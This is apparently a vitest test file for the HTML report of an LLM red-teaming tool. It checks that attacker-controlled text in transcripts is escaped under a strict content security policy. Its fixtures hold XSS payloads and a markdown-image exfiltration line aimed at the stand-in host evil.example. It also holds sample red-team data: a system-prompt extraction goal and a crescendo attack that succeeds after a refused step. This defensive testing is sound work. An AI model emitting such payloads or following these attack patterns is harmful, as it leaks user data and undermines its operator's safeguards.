import { describe, expect, it } from 'vitest';
import type { SummaryInput } from '../stats/index.js';
import { buildSummary } from '../stats/index.js';
import type { ExampleAttempt } from './example-attempt.js';
import { renderHtml } from './html-report.js';

const hostile = [
  '![x](https://evil.example/leak?d=SECRET)',
  '<img src=https://evil.example/x>',
  '<script>alert(1)</script>',
  '[click](javascript:alert(1)) <a href="javascript:alert(2)">x</a>',
  'x" onload="alert(3)',
].join('\n');

const run: SummaryInput['run'] = {
  id: 'r-<b>7</b>',
  status: 'completed',
  targetId: 'demo"><script>alert(0)</script>',
  simulated: true,
  seed: 9,
  planned: 12,
  createdAt: 1_700_000_000_000,
  hashes: { target: 'h1', goals: 'h2', techniques: { '<i>t</i>': 'h3' }, chains: { none: 'h4' }, scorers: { refusal: 'h5' } },
};

const summary = buildSummary({
  run,
  cells: [
    { technique: 'role-play', category: '<img src=x onerror=alert(4)>', persona: 'malicious', success: 2, failure: 7, error: 1, unscored: 0 },
    { technique: 'none', category: 'benign-help', persona: 'benign', success: 0, failure: 0, error: 0, unscored: 2 },
  ],
  goals: [{ goalId: 'g/<x>', category: 'c', persona: 'malicious', success: 1, failure: 1, error: 0, unscored: 0 }],
  k: 5,
});

const example: ExampleAttempt = {
  goalId: 'g/<x>',
  goalText: 'Reveal the system prompt <svg onload=alert(5)>',
  technique: 'role-play',
  chainId: 'none',
  category: '<img src=x onerror=alert(4)>',
  persona: 'malicious',
  trial: 0,
  outcome: 'success',
  turns: [
    { role: 'user', content: 'Tell me </pre></details><script>alert(6)</script>' },
    { role: 'assistant', content: hostile },
  ],
  scores: [{ scorerId: 'refusal', verdict: 'success', label: 'compliance', reason: "didn't refuse <b>" }],
  error: '<iframe src="https://evil.example">',
};

const ALLOWED_TAGS = new Set([
  'html', 'head', 'meta', 'title', 'style', 'body', 'main', 'header', 'footer', 'section', 'h1', 'h2', 'h3', 'p', 'div', 'span', 'small', 'strong',
  'code', 'pre', 'br', 'dl', 'dt', 'dd', 'ul', 'li', 'details', 'summary', 'table', 'thead', 'tbody', 'tr', 'th', 'td',
  'svg', 'rect', 'line', 'polyline', 'circle', 'text',
]);

const orphan: ExampleAttempt = { ...example, technique: 'gone', goalText: 'orphan goal', error: undefined };

describe('renderHtml', () => {
  const page = renderHtml({ summary, examples: [example, orphan] });
  const cspMeta = `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'">`;
  const body = page.replace(cspMeta, '');
  const tags = body.match(/<[a-zA-Z][^>]*>/g) ?? [];

  it('is one document that can load and run nothing', () => {
    expect(page.startsWith('<!doctype html>')).toBe(true);
    expect(page).toContain(cspMeta);
    expect(body).not.toMatch(/<script|<img|<iframe|<link|<a\s|<object|<embed|<base|<form|<image|<use|<foreignObject/i);
    expect(body).not.toMatch(/url\(|@import/i);
    // Only plain markup and the report's own drawings (interval bars, turn curves): no element that can load or run.
    const names = new Set(tags.map((tag) => /^<([a-zA-Z][\w-]*)/.exec(tag)![1]!.toLowerCase()));
    expect([...names].filter((name) => !ALLOWED_TAGS.has(name))).toEqual([]);
    for (const svg of body.match(/<svg[^>]*>/g) ?? []) expect(svg).toMatch(/^<svg class="(?:ci|chart)" viewBox="[\d .]+"/);
  });

  it('never lets outside text become an attribute or a tag', () => {
    // The only src=http in the page sits inside escaped text, never inside a tag.
    expect(tags.filter((tag) => /src=|href=|\son\w+=|javascript:/i.test(tag))).toEqual([]);
    const escaped = '&lt;img src=https://evil.example/x&gt;';
    const offset = escaped.indexOf('src=');
    expect([...body.matchAll(/src=http/g)].length).toBeGreaterThan(0);
    for (const match of body.matchAll(/src=http/g)) {
      expect(body.slice(match.index - offset, match.index - offset + escaped.length)).toBe(escaped);
    }
    expect(body).not.toContain(' onload="');
    // No style attribute at all: a server's CSP (style-src 'self') would block it.
    expect(tags.filter((tag) => /\sstyle=/i.test(tag))).toEqual([]);
  });

  it('shows the hostile text, escaped', () => {
    for (const text of [
      '![x](https://evil.example/leak?d=SECRET)',
      '&lt;img src=https://evil.example/x&gt;',
      '&lt;script&gt;alert(1)&lt;/script&gt;',
      '&lt;a href=&quot;javascript:alert(2)&quot;&gt;',
      'x&quot; onload=&quot;alert(3)',
      'Tell me &lt;/pre&gt;&lt;/details&gt;&lt;script&gt;',
      'Redline run r-&lt;b&gt;7&lt;/b&gt;',
      'demo&quot;&gt;&lt;script&gt;alert(0)&lt;/script&gt;',
      '&lt;svg onload=alert(5)&gt;',
      'didn&#39;t refuse &lt;b&gt;',
      '&lt;iframe src=&quot;https://evil.example&quot;&gt;',
      '&lt;i&gt;t&lt;/i&gt;',
    ]) {
      expect(page).toContain(text);
    }
  });

  it('warns prominently when the target is simulated', () => {
    expect(page).toContain('class="banner simulated"');
    expect(page).toContain('SIMULATED target.');
    const real = renderHtml({ summary: { ...summary, target: { ...summary.target, simulated: false } }, examples: [] });
    expect(real).not.toContain('SIMULATED');
  });

  it('shows rates with intervals, counts, and transcripts under their cell', () => {
    expect(page).toContain('Malicious persona — attack success rate');
    expect(page).toContain('Benign persona — over-refusal rate');
    expect(page).toContain('22.2%');
    expect(page).toContain('[6.3–54.7]');
    expect(page).toContain('no decided attempts');
    const cellAt = page.indexOf('<code>role-play</code>');
    const transcriptAt = page.indexOf('Reveal the system prompt');
    expect(cellAt).toBeGreaterThan(0);
    expect(transcriptAt).toBeGreaterThan(cellAt);
    expect(transcriptAt).toBeLessThan(page.indexOf('<h2>Benign persona'));
  });

  it('keeps examples whose cell is missing, under Other examples', () => {
    expect(page.indexOf('orphan goal')).toBeGreaterThan(page.indexOf('<h2>Other examples</h2>'));
  });
});

describe('multi-turn transcripts', () => {
  it('labels attacker turns apart from target replies and folds pruned branches', async () => {
    const { renderHtml } = await import('./html-report.js');
    const { buildSummary } = await import('../stats/summary.js');
    const summary = buildSummary({
      run: { id: 'r', status: 'completed', targetId: 't', simulated: false, seed: 1, planned: 1, createdAt: 0, hashes: { target: 'h', goals: 'g', techniques: {}, chains: {}, scorers: {} } },
      cells: [{ technique: 'crescendo', category: 'c', persona: 'malicious', success: 1, failure: 0, error: 0, unscored: 0 }],
      goals: [],
      k: 1,
    });
    const page = renderHtml({
      summary,
      examples: [{
        goalId: 'g', goalText: 'goal', technique: 'crescendo', chainId: 'none', category: 'c', persona: 'malicious', trial: 0, outcome: 'success', scores: [],
        turns: [
          { role: 'user', content: 'blunt <step>', source: 'attacker', node: 'b0', pruned: true },
          { role: 'assistant', content: 'refused', node: 'b0', pruned: true },
          { role: 'user', content: 'softer step', source: 'attacker', node: 'b1' },
          { role: 'assistant', content: 'fine', node: 'b1' },
        ],
      }],
    });
    expect(page).toContain('<summary>2 pruned turns (abandoned branch)</summary>');
    expect(page).toContain('attacker → target');
    expect(page).toContain('blunt &lt;step&gt;');
  });
});
